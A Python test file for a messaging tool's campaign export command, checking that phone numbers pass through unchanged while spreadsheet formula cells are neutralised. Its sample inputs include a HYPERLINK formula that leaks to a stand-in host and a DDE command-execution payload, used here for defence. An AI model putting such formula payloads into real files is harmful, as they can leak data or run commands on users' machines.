"""`bwmsg campaign export`: numbers written as they are, formulas neutralised, and an export
that can be fed back to `campaign run`."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

from bwmsg.callbacks import CallbackEvent, parse_events
from bwmsg.campaign import Journal
from bwmsg.campaign._input import recipient_key
from bwmsg.cli._inspect import guard_cell
from bwmsg.simulator import Simulator
from tests.cli_helpers import (
    bwmsg_run,
    campaign_run_args,
    env_for,
    journal_rows,
    states_of,
    write_rows,
)

FROM = "+19195550000"
E164_LIST = re.compile(r"\+[1-9][0-9]{0,14}(;\+[1-9][0-9]{0,14})*")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak=1","click me")',
    "-1+1",
    "@SUM(A1:A9)",
    "+1+1",
    "=cmd|' /C calc'!A0",
]


def read_export(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def run_args(
    recipients: Path, journal: Path, text: str = "Hi {name}", from_: str | None = FROM
) -> list[str | Path]:
    """`campaign run` 20 at a time, quiet; ``from_=None`` leaves --from out."""
    args = ("--concurrency", "20", "--quiet")
    return campaign_run_args(recipients, journal, *args, text=text, from_=from_)


def failed_receipt(message_id: str, description: str) -> CallbackEvent:
    """A message-failed callback whose description is ``description``."""
    body = {
        "type": "message-failed",
        "time": "2025-01-06T15:43:35.502180Z",
        "to": "+19190000000",
        "description": description,
        "errorCode": 4432,
        "message": {"id": message_id, "to": ["+19190000000"], "from": FROM},
    }
    (event,) = parse_events(body)
    return event


# -- guard_cell ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    ["+19195550000", "+447700900123", "+1", "+123456789012345", "+19195550000;+447700900123"],
)
def test_e164_numbers_are_written_as_they_are(cell: str) -> None:
    """One E.164 number, or several joined by ';', is not touched."""
    assert guard_cell(cell) == cell


@pytest.mark.parametrize(
    "cell",
    [
        *FORMULAS,
        "+0123",  # no E.164 number starts with 0
        "+1234567890123456",  # 16 digits
        "+19195550000;",
        "+19195550000; +447700900123",
        "+19195550000;=1+1",
        "+19195550000\n",
        "+١٩١٩٥٥٥",  # digits, but not ASCII ones
        "\t+19195550000",
        "\r=1",
        "-",
        "@",
    ],
)
def test_formula_cells_are_neutralised(cell: str) -> None:
    """Any other cell starting with = + - @ tab or CR gets a leading quote."""
    assert guard_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["hello", "", "1+1", "a=b", None, 3, "x+19195550000"])
def test_other_cells_are_unchanged(cell: object) -> None:
    """Cells that do not start with a formula character, and non-strings, are unchanged."""
    assert guard_cell(cell) == cell


# -- the command --------------------------------------------------------------------------------


async def test_export_feeds_back_into_campaign_run(tmp_path: Path) -> None:
    """The export's to and from are exact E.164; run on the export, every row is sent again."""
    rows = [
        ["+19195551001", "Ann"],
        ["+19195551003; +19195551002", "the Smiths"],
        ["+447700900123", "Bob"],
        *([f"+1919600{i:04d}", f"P{i}"] for i in range(20)),
    ]
    recipients = write_rows(tmp_path / "r.csv", rows)
    exported = tmp_path / "out.csv"
    async with Simulator() as sim:
        env = env_for(sim)
        args = run_args(recipients, tmp_path / "j1.db")
        code, output = await bwmsg_run(env, *args)
        assert code == 0, output
        code, output = await bwmsg_run(
            env, "campaign", "export", tmp_path / "j1.db", "-o", exported
        )
        assert code == 0, output
        first = {frozenset(m.to) for m in sim.accepted}
        sim.accepted.clear()
        again = run_args(exported, tmp_path / "j2.db", text="Row {row} was {state}", from_=None)
        code, output = await bwmsg_run(env, *again)
        assert code == 0, output
        second = list(sim.accepted)
    records = read_export(exported)
    assert [r["to"] for r in records] == [recipient_key(to) for to, _ in rows]
    assert all(E164_LIST.fullmatch(r["to"]) for r in records)
    assert {r["from"] for r in records} == {FROM}
    assert states_of(journal_rows(tmp_path / "j2.db")) == {"sent": len(rows)}
    assert len(second) == len(rows)
    assert {frozenset(m.to) for m in second} == first
    assert {m.request["from"] for m in second} == {FROM}
    assert "Row 2 was sent" in {m.text for m in second}


async def test_export_neutralises_formulas_but_not_numbers(tmp_path: Path) -> None:
    """Formulas in to and receipt_description cells get a quote; E.164 numbers do not."""
    rows = [[formula, "X"] for formula in FORMULAS[:3]] + [
        [f"+1919555100{i}", f"P{i}"] for i in range(3)
    ]
    recipients = write_rows(tmp_path / "r.csv", rows)
    journal = tmp_path / "j.db"
    guarded, raw = tmp_path / "guarded.csv", tmp_path / "raw.csv"
    async with Simulator() as sim:
        env = env_for(sim)
        args = run_args(recipients, journal)
        code, output = await bwmsg_run(env, *args)
        assert code == 0, output
        ids = {m.to[0]: m.id for m in sim.accepted}
        with Journal(journal) as db:  # carriers' words, as a delivery receipt brings them
            for i, formula in enumerate(FORMULAS[:3]):
                db.apply_receipt(failed_receipt(ids[f"+1919555100{i}"], formula))
        for path, extra in ((guarded, ()), (raw, ("--raw",))):
            code, output = await bwmsg_run(env, "campaign", "export", journal, "-o", path, *extra)
            assert code == 0, output
        code, jsonl = await bwmsg_run(env, "campaign", "export", journal, "--format", "jsonl")
        assert code == 0, jsonl
    safe = read_export(guarded)
    assert [r["to"] for r in safe] == ["'" + f for f in FORMULAS[:3]] + [to for to, _ in rows[3:]]
    assert [r["receipt_description"] for r in safe[3:]] == ["'" + f for f in FORMULAS[:3]]
    assert {r["from"] for r in safe[3:]} == {FROM}
    for record in safe:
        for cell in record.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or E164_LIST.fullmatch(
                cell
            ), cell
    unguarded = read_export(raw)
    assert [r["to"] for r in unguarded] == [to for to, _ in rows]
    assert [r["receipt_description"] for r in unguarded[3:]] == FORMULAS[:3]
    records = [json.loads(line) for line in jsonl.splitlines()]
    assert [r["to"] for r in records] == [to for to, _ in rows]
    assert [r["receipt_description"] for r in records[3:]] == FORMULAS[:3]
